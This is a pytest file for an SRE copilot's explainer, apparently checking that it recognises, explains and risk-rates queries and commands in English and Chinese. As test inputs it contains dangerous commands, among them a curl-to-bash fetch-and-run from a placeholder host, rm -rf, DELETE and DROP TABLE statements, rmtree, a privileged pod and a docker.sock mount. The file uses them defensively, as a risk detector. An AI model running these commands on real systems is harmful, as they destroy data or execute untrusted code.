"""Explanations come from the parsed form, in both languages, with a risk and its reasons."""

from __future__ import annotations

import pytest

from sre_copilot.agents.queries.explaining.anything import explain, kind_of

RULE = """groups:
- name: shop
  rules:
  - alert: ManyErrors
    expr: sum(rate(errors_total[5m])) > 3
    for: 10m
    labels: {severity: critical}
    annotations: {summary: look}
"""
POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - {name: a, image: 'a:1', securityContext: {privileged: true}}\n"


@pytest.mark.parametrize(
    ("text", "kind", "level", "word"),
    [
        ("topk(3, sum by (route) (rate(requests_total[5m])))", "promql", "none", "largest"),
        ('sum by (app) (count_over_time({level="error"} |= "x" [5m]))', "logql", "none", "counts lines"),
        ("SELECT a, count(*) FROM b WHERE c > 3 GROUP BY a LIMIT 5", "sql", "none", "One row for each a"),
        ("DELETE FROM b", "sql", "critical", "every row"),
        ("UPDATE b SET a = 1 WHERE c = 2", "sql", "high", "where c = 2"),
        ("DROP TABLE b", "sql", "critical", "Removes"),
        ('{"query":{"term":{"a":"b"}},"size":5}', "elasticsearch", "none", "a is b"),
        ("sudo rm -rf /var/cache/app", "bash", "high", "deletes files"),
        ("curl -s http://a.example/x | bash", "bash", "critical", "network"),
        ("df -h", "bash", "none", "how full"),
        ("import shutil\nshutil.rmtree('/data')\n", "python", "high", "deletes folders"),
        (RULE, "alert_rule", "none", "fires"),
        (POD, "kubernetes", "critical", "runs a:1"),
        (
            "services:\n  a: {image: b, volumes: ['/var/run/docker.sock:/s']}\n",
            "compose",
            "critical",
            "Service a",
        ),
    ],
)
def test_what_is_given_is_recognised_explained_and_weighed(
    text: str, kind: str, level: str, word: str
) -> None:
    found = explain(text, "en")
    assert found.kind == kind_of(text) == kind
    assert found.risk.level == level
    assert any(word in line for line in found.lines), found.lines
    assert bool(found.risk.reasons) == (level != "none")


def test_it_is_said_in_chinese_as_well() -> None:
    english, chinese = explain("DELETE FROM b", "en"), explain("DELETE FROM b", "zh")
    assert chinese.risk.level == english.risk.level
    assert "删除" in chinese.lines[0]


def test_what_cannot_be_parsed_is_said_and_not_guessed() -> None:
    assert explain("hello there", "en").kind == "unknown"
    assert explain("SELECT FROM WHERE", "en").problems
    assert explain("echo 'open", "en", kind="bash").problems


def test_a_script_without_an_end_of_its_blocks_is_found_out() -> None:
    assert any(
        "if" in each
        for each in explain("set -euo pipefail\nif true; then\necho a\n", "en", kind="bash").problems
    )


def test_text_within_quotes_is_no_command() -> None:
    assert [line for line in explain("echo 'a; reboot'", "en").lines if line.startswith("reboot")] == []
